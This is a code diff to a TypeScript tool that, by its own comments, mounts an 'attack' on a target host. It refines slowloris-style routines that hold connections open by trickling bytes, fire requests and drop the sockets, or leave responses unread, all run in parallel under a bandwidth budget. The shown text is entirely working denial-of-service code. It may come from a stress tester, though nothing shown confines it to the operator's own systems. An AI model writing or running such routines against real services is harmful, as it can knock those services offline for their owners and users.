@@ -16,14 +16,16 @@ let answers = 0;
 let closed = 0;
 const started = performance.now();
 
-/** Waits until so many more bytes may be sent. */
+/** Waits until so many more bytes may be sent, or the attack is over. */
 async function budget(bytes: number) {
   sent += bytes;
   const ahead = (sent / BYTES_PER_SECOND) * 1000 - (performance.now() - started);
-  if (ahead > 0) await wait(ahead);
+  if (ahead > 0) await wait(Math.max(0, Math.min(ahead, end - Date.now())));
 }
 
 async function open({ isRead = true } = {}): Promise<Socket> {
+  // Handshake and end of a connection, on the wire.
+  await budget(300);
   const socket = connect({ host: hostname, port: Number(port) }).setMaxListeners(0);
   socket.on('error', () => undefined);
   socket.on('close', () => {
@@ -35,8 +37,6 @@ async function open({ isRead = true } = {}): Promise<Socket> {
     });
   await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => undefined);
   if (!isRead) socket.pause();
-  // Handshake and end of a connection, on the wire.
-  await budget(300);
   return socket;
 }
 
@@ -101,8 +101,8 @@ const loops =
 const slow = (count: number, beginning: string) => () =>
   parallel(count, async () => {
     const socket = await open();
-    socket.write(beginning);
     await budget(beginning.length);
+    if (Date.now() < end) socket.write(beginning);
     while (Date.now() < end && !socket.destroyed) {
       await wait(1000);
       socket.write('x');
@@ -115,8 +115,8 @@ const slow = (count: number, beginning: string) => () =>
 const hitAndRun = (count: number, request: string) => () =>
   parallel(count, async () => {
     const socket = await open();
-    socket.write(request);
     await budget(request.length);
+    if (Date.now() < end) socket.write(request);
     socket.destroy();
   });
 
@@ -124,8 +124,8 @@ const hitAndRun = (count: number, request: string) => () =>
 const unread = (count: number, request: string) => () =>
   parallel(count, async () => {
     const socket = await open({ isRead: false });
-    socket.write(request);
     await budget(request.length);
+    if (Date.now() < end) socket.write(request);
     while (Date.now() < end && !socket.destroyed) await wait(500);
     socket.destroy();
   });
